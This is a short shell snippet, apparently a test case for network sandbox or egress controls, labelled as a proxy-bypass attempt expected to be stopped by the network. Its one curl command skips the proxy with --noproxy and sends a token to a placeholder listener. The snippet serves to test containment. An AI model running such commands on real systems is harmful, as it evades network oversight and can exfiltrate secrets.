# says: Leaves the proxy aside.
# stopped by: network
# proof: arrived
# source: --noproxy
curl -sS --max-time 4 --noproxy '*' "http://$LISTENER:$PORT/$TOKEN"
